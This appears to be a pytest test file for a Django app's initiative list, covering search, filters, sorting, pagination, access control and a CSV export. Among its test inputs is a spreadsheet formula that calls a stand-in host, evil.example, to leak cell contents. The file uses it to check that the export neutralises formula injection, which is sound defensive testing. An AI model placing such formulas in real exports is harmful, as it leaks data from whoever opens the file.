"""The initiative list: search, filters, sorting, pagination and the formula-safe CSV export;
who may see it, and what it costs in queries."""

import csv
import html
import io
import re
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from gates.stages import Stage
from metrics.models import Verdict
from pages.listing import COLUMNS, safe_cell
from portfolio.models import FlagKind, Initiative, User
from portfolio.roles import Role
from tests.factories import (
    BusinessUnitFactory,
    InitiativeFactory,
    MetricFactory,
    MetricSnapshotFactory,
    PurgatoryFlagFactory,
    UserFactory,
    bulk_portfolio,
)
from tests.helpers import advance

pytestmark = pytest.mark.django_db


def make(title="Initiative", *, stage=Stage.FRAME, user, days=None, verdict=None, flags=(), **f):
    """An initiative walked to `stage` through gates.services.decide; `days` in it; its primary
    metric's latest verdict (None: no snapshot); active flags of the given kinds."""
    initiative = InitiativeFactory(framed=True, title=title, **f)
    advance(initiative, stage, user=user)
    if days is not None:
        Initiative.objects.filter(pk=initiative.pk).update(
            stage_entered_at=timezone.now() - timedelta(days=days, hours=1)
        )
    if verdict is not None:
        MetricSnapshotFactory(
            metric=initiative.metrics.get(is_primary=True), verdict=verdict, latest=True
        )
    for kind in flags:
        PurgatoryFlagFactory(initiative=initiative, kind=kind)
    initiative.refresh_from_db()
    return initiative


def listing(client, query: str = ""):
    response = client.get("/initiatives/" + (f"?{query}" if query else ""))
    assert response.status_code == 200
    return response


def titles(response) -> list[str]:
    return [i.title for i in response.context["page"]]


def shown(client, query: str = "") -> set[str]:
    return set(titles(listing(client, query)))


@pytest.fixture
def signed_in(client, viewer):
    client.force_login(viewer)
    return client


# Search --------------------------------------------------------------------------------------
def test_search_finds_words_in_the_title_or_the_summary(signed_in, manager):
    make("Claims triage", user=manager, summary="Route claims to adjusters.")
    make("Invoice matching", user=manager, summary="Detect FRAUD in supplier invoices.")
    make("Churn model", user=manager, summary="Predict which customers leave.")

    assert shown(signed_in, "q=claims") == {"Claims triage"}
    assert shown(signed_in, "q=fraud") == {"Invoice matching"}
    assert shown(signed_in, "q=+invoice+") == {"Invoice matching"}
    assert shown(signed_in, "q=nothing+like+this") == set()
    assert shown(signed_in, "q=") == {"Claims triage", "Invoice matching", "Churn model"}


# Filters -------------------------------------------------------------------------------------
def test_filter_by_stage(signed_in, manager):
    make("In frame", user=manager)
    make("In thin slice", stage=Stage.THIN_SLICE, user=manager)
    make("Stopped", stage=Stage.STOPPED, user=manager)

    assert shown(signed_in, "stage=thin_slice") == {"In thin slice"}
    assert shown(signed_in, "stage=stopped") == {"Stopped"}
    assert shown(signed_in, "stage=wide_launch") == set()


def test_filter_by_business_unit(signed_in, manager):
    claims = BusinessUnitFactory(slug="claims")
    make("Claims one", user=manager, business_unit=claims)
    make("Claims two", user=manager, business_unit=claims)
    make("Retail", user=manager)

    assert shown(signed_in, "unit=claims") == {"Claims one", "Claims two"}


@pytest.mark.parametrize("role", ["business_owner", "operational_owner", "delivery_lead"])
def test_filter_by_owner_matches_any_of_the_three_owner_roles(signed_in, manager, role):
    person = UserFactory(role=Role.OWNER)
    make("Theirs", user=manager, **{role: person})
    make("Someone else's", user=manager)

    assert shown(signed_in, f"owner={person.pk}") == {"Theirs"}


def test_filter_by_owner_lists_every_initiative_they_own_in_any_role(signed_in, manager):
    person = UserFactory(role=Role.OWNER)
    make("Business", user=manager, business_owner=person)
    make("Operations", user=manager, operational_owner=person)
    make("Delivery", user=manager, delivery_lead=person)
    make("Sponsored only", user=manager, sponsor=person)

    assert shown(signed_in, f"owner={person.pk}") == {"Business", "Operations", "Delivery"}


def test_filter_by_sponsor(signed_in, manager):
    sponsor = UserFactory(role=Role.EXECUTIVE)
    make("Sponsored", user=manager, sponsor=sponsor)
    make("Owned by the sponsor", user=manager, business_owner=sponsor)

    assert shown(signed_in, f"sponsor={sponsor.pk}") == {"Sponsored"}


def test_filter_by_a_flag_kind_or_any_flag(signed_in, manager):
    make("Stuck", user=manager, flags=[FlagKind.STUCK])
    make("Stuck and borrowed", user=manager, flags=[FlagKind.STUCK, FlagKind.BORROWED_DATA])
    make("Borrowed", user=manager, flags=[FlagKind.BORROWED_DATA])
    once = make("Was stuck once", user=manager)
    PurgatoryFlagFactory(initiative=once, kind=FlagKind.STUCK, cleared_at=timezone.now())
    make("Never flagged", user=manager)

    assert shown(signed_in, "flag=stuck") == {"Stuck", "Stuck and borrowed"}
    assert shown(signed_in, "flag=borrowed_data") == {"Stuck and borrowed", "Borrowed"}
    assert shown(signed_in, "flag=no_business_owner") == set()
    assert shown(signed_in, "flag=any") == {"Stuck", "Stuck and borrowed", "Borrowed"}


def test_filter_by_primary_metric_verdict(signed_in, manager):
    make("Below", stage=Stage.NARROW_LAUNCH, user=manager, verdict=Verdict.BELOW)
    make("Meeting", stage=Stage.WIDE_LAUNCH, user=manager, verdict=Verdict.MEETING)
    make("Not computed", stage=Stage.NARROW_LAUNCH, user=manager)
    below_secondary = make("Secondary below", user=manager, verdict=Verdict.MEETING)
    MetricSnapshotFactory(
        metric=MetricFactory(initiative=below_secondary, is_primary=False, name="Cost"),
        verdict=Verdict.BELOW,
        latest=True,
    )

    assert shown(signed_in, "verdict=below") == {"Below"}
    assert shown(signed_in, "verdict=meeting") == {"Meeting", "Secondary below"}
    assert shown(signed_in, "verdict=stale") == set()


def test_filter_by_progress_stop_reason_and_missing_primary_metric(signed_in, manager):
    make("In frame", user=manager)
    make("In thin slice", stage=Stage.THIN_SLICE, user=manager)
    make("Launched", stage=Stage.NARROW_LAUNCH, user=manager)
    make("Wide", stage=Stage.WIDE_LAUNCH, user=manager)
    advance(make("Stopped after framing", stage=Stage.THIN_SLICE, user=manager),
            Stage.STOPPED, user=manager)  # fmt: skip
    make("Stopped in frame", stage=Stage.STOPPED, user=manager)
    bare = make("Wide, no metric", stage=Stage.WIDE_LAUNCH, user=manager)
    bare.metrics.all().delete()

    assert shown(signed_in, "progress=left_frame") == {
        "In thin slice", "Launched", "Wide", "Stopped after framing", "Wide, no metric",
    }  # fmt: skip
    assert shown(signed_in, "progress=reached_narrow") == {"Launched", "Wide", "Wide, no metric"}
    assert shown(signed_in, "progress=reached_wide") == {"Wide", "Wide, no metric"}
    assert shown(signed_in, "progress=stopped_after_frame") == {"Stopped after framing"}
    assert shown(signed_in, "progress=in_flight") == {"In thin slice", "Launched"}
    assert shown(signed_in, "stop_reason=other") == {"Stopped after framing", "Stopped in frame"}
    assert shown(signed_in, "stop_reason=superseded") == set()
    assert shown(signed_in, "stage=launched&verdict=no_metric") == {"Wide, no metric"}


def test_filter_by_the_quarter_of_leaving_framing_or_of_launch(signed_in, manager):
    from pages.listing import quarter_of

    make("Launched", stage=Stage.NARROW_LAUNCH, user=manager)
    make("Framed", stage=Stage.THIN_SLICE, user=manager)
    now = quarter_of(timezone.now())

    assert shown(signed_in, f"cohort={now}") == {"Launched", "Framed"}
    assert shown(signed_in, f"launched_in={now}") == {"Launched"}
    assert shown(signed_in, "cohort=2001Q1") == set()


def test_filters_combine(signed_in, manager):
    claims = BusinessUnitFactory(slug="claims")
    person = UserFactory(role=Role.OWNER)
    elsewhere = BusinessUnitFactory(slug="retail")
    wanted = {
        "stage": Stage.THIN_SLICE,
        "business_unit": claims,
        "delivery_lead": person,
        "flags": [FlagKind.STUCK],
    }
    make("Claims triage", user=manager, **wanted)
    make("Claims triage, no flag", user=manager, **{**wanted, "flags": []})
    make("Claims triage, in frame", user=manager, **{**wanted, "stage": Stage.FRAME})
    make("Claims triage, other unit", user=manager, **{**wanted, "business_unit": elsewhere})
    make("Claims triage, other lead", user=manager, **{**wanted, "delivery_lead": None})
    make("Fraud detection", user=manager, **wanted)

    query = f"q=claims&stage=thin_slice&unit=claims&owner={person.pk}&flag=stuck"
    assert shown(signed_in, query) == {"Claims triage"}
    assert shown(signed_in, "stage=thin_slice&unit=claims&flag=any") == {
        "Claims triage",
        "Fraud detection",
        "Claims triage, other lead",
    }


@pytest.mark.parametrize(
    "bad",
    [
        "stage=nonsense",
        "unit=no-such-unit",
        "owner=abc",
        "owner=999999",
        "owner=99999999999999999999999",
        "sponsor=-1",
        "sponsor=1.5",
        "flag=bogus",
        "verdict=bogus",
        "sort=bogus",
        "sort=-",
        "sort=--title",
        "sort=" + "x" * 50,
        "q=" + "a" * 101,
        "page=abc",
        "page=99999",
        "page=-1",
        "stage=thin_slice&stage=frame",
        "unit=%00",
        "progress=nowhere",
        "stop_reason=bored",
        "cohort=2026Q5",
        "cohort=last+year",
        "launched_in=2026-07",
    ],
)
def test_an_invalid_filter_is_ignored_not_an_error(signed_in, manager, bad):
    make("In thin slice", stage=Stage.THIN_SLICE, user=manager)
    make("In frame", user=manager)

    response = listing(signed_in, bad)

    assert set(titles(response)) <= {"In thin slice", "In frame"}
    assert len(export(signed_in, bad)) >= 2


def test_an_invalid_filter_leaves_the_others_in_force(signed_in, manager):
    make("In thin slice", stage=Stage.THIN_SLICE, user=manager)
    make("In frame", user=manager)

    assert shown(signed_in, "stage=thin_slice&unit=no-such-unit&owner=abc") == {"In thin slice"}


# Sorting -------------------------------------------------------------------------------------
@pytest.fixture
def sortable(manager):
    """Five initiatives that differ in every sortable column; two have no business owner and
    two no metric status (one has no snapshot, the other its metric's snapshot is missing)."""
    retail, claims = BusinessUnitFactory(name="Retail"), BusinessUnitFactory(name="Claims")
    actuarial = BusinessUnitFactory(name="Actuarial")

    def person(first, last):
        return UserFactory(first_name=first, last_name=last, role=Role.OWNER)

    make(
        "Alpha",
        stage=Stage.NARROW_LAUNCH,
        user=manager,
        business_unit=retail,
        business_owner=person("Ann", "Zed"),
        days=10,
        verdict=Verdict.BELOW,
        flags=[FlagKind.STUCK, FlagKind.BELOW_THRESHOLD],
    )
    make("Bravo", user=manager, business_unit=claims, business_owner=None, days=50)
    make(
        "Charlie",
        stage=Stage.THIN_SLICE,
        user=manager,
        business_unit=retail,
        business_owner=person("Bob", "Brown"),
        days=3,
        verdict=Verdict.MEETING,
        flags=[FlagKind.BORROWED_DATA],
    )
    make(
        "Delta",
        stage=Stage.STOPPED,
        user=manager,
        business_unit=actuarial,
        business_owner=person("Cy", "Adams"),
        days=100,
        verdict=Verdict.STALE,
    )
    make(
        "Echo",
        stage=Stage.WIDE_LAUNCH,
        user=manager,
        business_unit=claims,
        business_owner=None,
        days=1,
        flags=[FlagKind.STUCK, FlagKind.NO_BUSINESS_OWNER, FlagKind.NO_SUCCESS_METRIC],
    )
    bravo = Initiative.objects.get(title="Bravo")
    bravo.metrics.all().delete()
    # Cleared flags count for nothing: Bravo sorts as having none.
    for kind in (FlagKind.STUCK, FlagKind.BELOW_THRESHOLD, FlagKind.NO_BUSINESS_OWNER):
        PurgatoryFlagFactory(initiative=bravo, kind=kind, cleared_at=timezone.now())


# (sort key, ascending order, descending order). The first key reverses; ties stay in title
# order; a missing owner or status comes last in both directions.
SORTED = [
    ("title", "ABCDE", "EDCBA"),
    ("stage", "BCAED", "DEACB"),  # the path's order, stopped last
    ("unit", "DBEAC", "ACBED"),
    ("owner", "DCABE", "ACDBE"),  # by last name: Adams, Brown, Zed; nobody named last
    ("days", "ECABD", "DBACE"),  # "days": fewest days in the stage first; "-days": most
    ("verdict", "ACDBE", "DCABE"),  # below, meeting, stale; none last
    ("flags", "BDCAE", "EACBD"),
]
NAMES = {n[0]: n for n in ["Alpha", "Bravo", "Charlie", "Delta", "Echo"]}


@pytest.mark.parametrize(("key", "ascending", "descending"), SORTED)
def test_every_column_sorts_both_ways(signed_in, sortable, key, ascending, descending):
    up = listing(signed_in, f"sort={key}")
    down = listing(signed_in, f"sort=-{key}")

    assert titles(up) == [NAMES[c] for c in ascending]
    assert titles(down) == [NAMES[c] for c in descending]
    assert up.context["sort"] == key
    assert down.context["sort"] == f"-{key}"


def test_titles_units_and_names_sort_as_read_whatever_their_case(signed_in):
    """ "api gateway" between "Alpha" and "Beta", not after "Zulu"; likewise units and names."""
    for title, unit, last in [
        ("Zulu", "Zoo", "zed"),
        ("Beta", "claims", "Brown"),
        ("api gateway", "Actuarial", "adams"),
        ("Alpha", "Bees", "ZZ Top"),
    ]:
        InitiativeFactory(
            title=title,
            business_unit=BusinessUnitFactory(name=unit),
            business_owner=UserFactory(first_name="", last_name=last),
        )
    assert titles(listing(signed_in)) == ["Alpha", "api gateway", "Beta", "Zulu"]
    assert titles(listing(signed_in, "sort=unit")) == ["api gateway", "Alpha", "Beta", "Zulu"]
    assert titles(listing(signed_in, "sort=owner")) == ["api gateway", "Beta", "Zulu", "Alpha"]


def test_the_sort_keys_follow_a_rename_however_it_is_written(signed_in, sortable):
    """The case-folded keys are kept by the database: a rename through a queryset update,
    which no model signal hears, re-sorts the list as much as a save does."""
    User.objects.filter(last_name="Zed").update(last_name="aardvark")
    assert titles(listing(signed_in, "sort=owner"))[:3] == ["Alpha", "Delta", "Charlie"]
    Initiative.objects.filter(title="Echo").update(title="a first")
    assert titles(listing(signed_in))[0] == "a first"
    delta = Initiative.objects.get(title="Delta")
    delta.title = "0 Delta"
    delta.save()
    assert titles(listing(signed_in))[0] == "0 Delta"


def test_the_default_and_an_unknown_sort_are_by_title(signed_in, sortable):
    assert titles(listing(signed_in)) == list(NAMES.values())
    assert titles(listing(signed_in, "sort=-bogus")) == list(NAMES.values())


def test_sort_headers_toggle_the_direction_and_keep_the_filters(signed_in, sortable):
    response = listing(signed_in, "q=a&flag=any&sort=days&page=1")

    links = response.context["sort_links"]
    assert links["days"] == "q=a&flag=any&sort=-days"
    assert links["title"] == "q=a&flag=any&sort=title"
    body = response.content.decode()
    assert 'href="?q=a&amp;flag=any&amp;sort=-days"' in body
    assert 'aria-sort="ascending"' in body


# Pagination ----------------------------------------------------------------------------------
def pager(response) -> list[str]:
    """The hrefs of the Previous and Next links."""
    nav = re.search(r'<nav class="pager".*?</nav>', response.content.decode(), re.S).group(0)
    return [html.unescape(href) for href in re.findall(r'href="([^"]*)"', nav)]


def test_pages_keep_the_filters_and_cover_every_match_once(signed_in):
    claims = BusinessUnitFactory(slug="claims")
    other = BusinessUnitFactory(slug="retail")
    Initiative.objects.bulk_create(
        [
            # Equal titles: only a stable tie-break keeps pages from overlapping.
            Initiative(title="Claims triage", slug=f"claims-triage-{n}", business_unit=claims)
            for n in range(120)
        ]
        + [
            Initiative(title="Claims triage", slug=f"retail-{n}", business_unit=other)
            for n in range(10)
        ]
    )
    query = "q=triage&unit=claims&sort=-title"

    first = listing(signed_in, query)
    assert first.context["page"].paginator.count == 120
    assert first.context["query"] == query
    assert pager(first) == [f"?{query}&page=2"]
    second = listing(signed_in, f"{query}&page=2")
    assert pager(second) == [f"?{query}&page=1", f"?{query}&page=3"]
    third = listing(signed_in, f"{query}&page=3")

    pages = [list(p.context["page"]) for p in (first, second, third)]
    assert [len(p) for p in pages] == [50, 50, 20]
    slugs = [i.slug for p in pages for i in p]
    assert len(set(slugs)) == 120
    assert all(s.startswith("claims-triage-") for s in slugs)


# CSV export ----------------------------------------------------------------------------------
def export(client, query: str = "") -> list[list[str]]:
    response = client.get("/initiatives/export.csv" + (f"?{query}" if query else ""))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    stamp = timezone.now().strftime("%Y-%m-%d")
    assert (
        response["Content-Disposition"] == f'attachment; filename="gantry-initiatives-{stamp}.csv"'
    )
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


def test_export_has_the_header_and_one_row_per_listed_initiative(signed_in, manager):
    unit = BusinessUnitFactory(name="Claims operations", slug="claims")
    people = {
        name: UserFactory(first_name=name.title(), last_name="Person")
        for name in ("sponsor", "business_owner", "operational_owner", "delivery_lead")
    }
    initiative = make(
        "Claims triage",
        stage=Stage.NARROW_LAUNCH,
        user=manager,
        business_unit=unit,
        days=12,
        verdict=Verdict.BELOW,
        flags=[FlagKind.STUCK, FlagKind.BELOW_THRESHOLD],
        **people,
    )
    make("Elsewhere", user=manager)

    rows = export(signed_in, "unit=claims")

    assert rows[0] == COLUMNS
    assert rows[1:] == [
        [
            "Claims triage",
            "Narrow launch",
            "Claims operations",
            "Sponsor Person",
            "Business_Owner Person",
            "Operational_Owner Person",
            "Delivery_Lead Person",
            "12",
            "First-contact resolution",
            "Below threshold",
            "Primary metric below threshold; Stuck in stage",
            f"http://testserver/initiatives/{initiative.slug}/",
        ]
    ]


def test_export_follows_the_lists_filters_and_order(signed_in, sortable):
    for query in ["", "sort=-days", "flag=any&sort=flags", "stage=stopped", "q=a&sort=-owner"]:
        listed = titles(listing(signed_in, query))
        exported = [row[0] for row in export(signed_in, query)[1:]]
        assert exported == listed, query


def test_export_of_no_match_is_the_header_alone(signed_in, manager):
    make("Claims triage", user=manager)

    assert export(signed_in, "q=nothing") == [COLUMNS]


def test_export_leaves_missing_people_and_status_empty(signed_in, manager):
    make("Unowned", user=manager, business_owner=None, delivery_lead=None)

    [row] = export(signed_in)[1:]

    assert row[3:7] == ["", "", "", ""]
    assert row[9:11] == ["", ""]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "=1+1",
    "\tTab first",
    "\rCarriage return first",
]


@pytest.mark.parametrize("title", FORMULAS)
def test_export_neutralises_a_title_a_spreadsheet_would_run(signed_in, manager, title):
    make(title, user=manager, summary=title)

    [row] = export(signed_in)[1:]

    assert row[0] == "'" + title


@pytest.mark.parametrize("value", FORMULAS)
def test_export_neutralises_formulas_in_every_text_column(signed_in, manager, value):
    unit = BusinessUnitFactory(name=value)
    person = UserFactory(first_name=value, last_name="")
    initiative = make(
        "Plain title", user=manager, business_unit=unit, sponsor=person, business_owner=person
    )
    initiative.metrics.update(name=value)

    [row] = export(signed_in)[1:]

    assert row[2] == row[8] == "'" + value
    # A name is shown stripped (get_full_name): a leading tab or CR is gone, not run.
    assert row[3] == row[4] == safe_cell(value.strip())
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize(
    "text", ["Claims triage", "a=b", "Cost -2 per claim", "mail@example.com", "", "'quoted"]
)
def test_export_leaves_ordinary_text_untouched(signed_in, manager, text):
    make(text or "Untitled", user=manager)

    [row] = export(signed_in)[1:]

    assert row[0] == (text or "Untitled")
    assert safe_cell(text) == text


def test_safe_cell_handles_numbers_and_none():
    assert safe_cell(None) == ""
    assert safe_cell(12) == "12"
    assert safe_cell(-3) == "'-3"


# Who sees it ---------------------------------------------------------------------------------
@pytest.mark.parametrize("role", ["viewer", "owner", "executive", "manager"])
@pytest.mark.parametrize("url", ["/initiatives/", "/initiatives/export.csv"])
def test_every_role_sees_the_list_and_its_export(client, request, manager, role, url):
    make("Claims triage", user=manager)
    client.force_login(request.getfixturevalue(role))

    response = client.get(url)

    assert response.status_code == 200


@pytest.mark.parametrize(
    ("url", "login"),
    [
        ("/", "/accounts/login/?next=/"),
        ("/initiatives/", "/accounts/login/?next=/initiatives/"),
        (
            "/initiatives/?stage=frame&q=x",
            "/accounts/login/?next=/initiatives/%3Fstage%3Dframe%26q%3Dx",
        ),
        ("/initiatives/export.csv", "/accounts/login/?next=/initiatives/export.csv"),
    ],
)
def test_anonymous_visitors_are_sent_to_log_in(client, url, login):
    response = client.get(url)

    assert response.status_code == 302
    assert response.url == login


# Queries -------------------------------------------------------------------------------------
def count_queries(client, url: str) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = client.get(url)
        if response.streaming:
            b"".join(response.streaming_content)
    assert response.status_code == 200
    return len(captured.captured_queries)


LIST_URLS = [
    "/initiatives/",
    "/initiatives/?sort=-flags",
    "/initiatives/?q=bulk&stage=narrow_launch&unit=bulk-unit-1&flag=any&sort=-days",
    "/initiatives/?owner=OWNER&sponsor=OWNER&verdict=below&sort=verdict",
    "/initiatives/?progress=in_flight&sort=-flags",
    "/initiatives/export.csv?stop_reason=other&cohort=2026Q1&launched_in=2026Q1",
    "/initiatives/export.csv",
    "/initiatives/export.csv?flag=any&sort=owner",
]


@pytest.mark.parametrize("url", LIST_URLS)
def test_list_and_export_queries_do_not_grow_with_the_portfolio(client, executive, manager, url):
    bulk_portfolio(10, decided_by=manager)
    url = url.replace("OWNER", str(User.objects.get(username="bulk-person-0").pk))
    client.force_login(executive)
    client.get(url)
    response = client.get(url)
    if not response.streaming:
        assert any(i.active_flags for i in response.context["page"]), "no flags to prefetch"
    small = count_queries(client, url)

    bulk_portfolio(490, decided_by=manager, start=10)

    assert Initiative.objects.count() == 500
    assert count_queries(client, url) == small


# Person filters -------------------------------------------------------------------------------
@pytest.fixture
def owners(db):
    """Two owners who share a name, and a third."""
    return {
        "ada": UserFactory(username="ada", first_name="Ada", last_name="Lovelace"),
        "ada2": UserFactory(username="ada2", first_name="Ada", last_name="Lovelace"),
        "grace": UserFactory(username="grace", first_name="Grace", last_name="Hopper"),
    }


def owned(owners):
    return {
        name: InitiativeFactory(title=f"Owned by {name}", business_owner=person)
        for name, person in owners.items()
    }


@pytest.mark.parametrize(
    "typed",
    ["{pk}", "Grace Hopper (grace)", "grace", "GRACE HOPPER", "  grace hopper ", "hop", "gr"],
)
def test_the_owner_filter_takes_an_id_a_suggestion_a_username_or_a_full_name(
    client, viewer, owners, typed
):
    owned(owners)
    client.force_login(viewer)

    response = client.get("/initiatives/", {"owner": typed.format(pk=owners["grace"].pk)})

    assert [i.title for i in response.context["page"]] == ["Owned by grace"]
    assert 'value="Grace Hopper (grace)"' in response.content.decode()


@pytest.mark.parametrize(
    ("typed", "error"),
    [
        ("Ada Lovelace", "More than one owner matches “Ada Lovelace”"),
        ("lov", "More than one owner matches “lov”"),
        ("Nobody Here", "No owner matches “Nobody Here”; showing every owner."),
        ("999999", "No owner matches “999999”"),
    ],
)
def test_an_unknown_or_ambiguous_owner_is_said_and_filters_nothing(
    client, viewer, owners, typed, error
):
    owned(owners)
    client.force_login(viewer)

    response = client.get("/initiatives/", {"owner": typed})

    assert response.context["page"].paginator.count == 3
    assert error in response.content.decode()


def test_the_list_renders_no_person_options(client, viewer, owners):
    """The page does not list every owner and sponsor: they are suggested as one types."""
    owned(owners)
    client.force_login(viewer)

    html = client.get("/initiatives/").content.decode()

    assert "Lovelace" not in html.split("<table", 1)[0]  # not in the filters
    assert 'list="owner-suggestions"' in html and 'list="sponsor-suggestions"' in html


def test_suggestions_offer_people_of_the_kind_whose_name_starts_with_the_text(
    client, viewer, owners
):
    owned(owners)
    sponsor = UserFactory(username="lola", first_name="Lola", last_name="Sponsor")
    InitiativeFactory(sponsor=sponsor)
    UserFactory(username="adam", first_name="Adam", last_name="Nobody")  # owns nothing
    client.force_login(viewer)

    def suggest(kind, q):
        response = client.get("/people/suggest/", {"kind": kind, "q": q})
        assert response.status_code == 200
        return [p["label"] for p in response.json()["people"]]

    assert suggest("owner", "ad") == ["Ada Lovelace (ada)", "Ada Lovelace (ada2)"]
    assert suggest("owner", "hop") == ["Grace Hopper (grace)"]  # the last name
    assert suggest("owner", "lo") == ["Ada Lovelace (ada)", "Ada Lovelace (ada2)"]
    assert suggest("sponsor", "lo") == ["Lola Sponsor (lola)"]
    assert suggest("owner", " ") == []


def test_suggestions_answer_a_bad_kind_with_a_json_error(client, viewer):
    client.force_login(viewer)
    response = client.get("/people/suggest/", {"kind": "everyone", "q": "a"})
    assert response.status_code == 400
    assert response.json() == {"error": "kind must be one of: owner, sponsor."}


def test_suggestions_need_a_login(client):
    response = client.get("/people/suggest/", {"kind": "owner", "q": "a"})
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


@pytest.mark.parametrize(("query", "opened"), [("", False), ("stage=frame", False),
                                               ("progress=left_frame", True),
                                               ("running_cost=none", True)])  # fmt: skip
def test_the_less_used_filters_fold_away_unless_one_is_set(client, viewer, query, opened):
    client.force_login(viewer)
    html = client.get(f"/initiatives/?{query}").content.decode()
    assert ('<details class="more-filters" open>' in html) is opened
    assert "<summary>More filters</summary>" in html
